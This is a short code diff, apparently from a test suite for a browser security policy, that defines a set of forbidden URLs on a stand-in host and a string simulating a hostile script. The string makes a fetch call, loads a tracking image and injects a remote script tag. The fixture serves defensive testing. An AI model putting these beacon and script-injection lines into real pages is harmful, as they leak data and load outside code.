@@ -18,11 +18,14 @@ export interface StandIn {
   readonly shows: string;
 }
 
-const FORBIDDEN = "https://forbidden.example";
+const [NEWS, PIXEL, CODE] = ["a", "b.png", "c.js"].map((name) => `https://forbidden.example/${name}`);
+
+/** Addresses that no policy allows. */
+export const FORBIDDEN: ReadonlySet<string | undefined> = new Set([NEWS, PIXEL, CODE]);
 
 /** What a hostile script would try: its own server, a script from there, a picture that carries news. */
-export const FORBIDDEN_REQUESTS = `fetch("${FORBIDDEN}/a").catch(() => {}); new Image().src = "${FORBIDDEN}/b.png";
-document.head.append(Object.assign(document.createElement("script"), { src: "${FORBIDDEN}/c.js" }));`;
+export const FORBIDDEN_REQUESTS = `fetch("${NEWS}").catch(() => {}); new Image().src = "${PIXEL}";
+document.head.append(Object.assign(document.createElement("script"), { src: "${CODE}" }));`;
 
 const script = (body: string) => `(() => { ${body}\n${FORBIDDEN_REQUESTS} })();`;
 
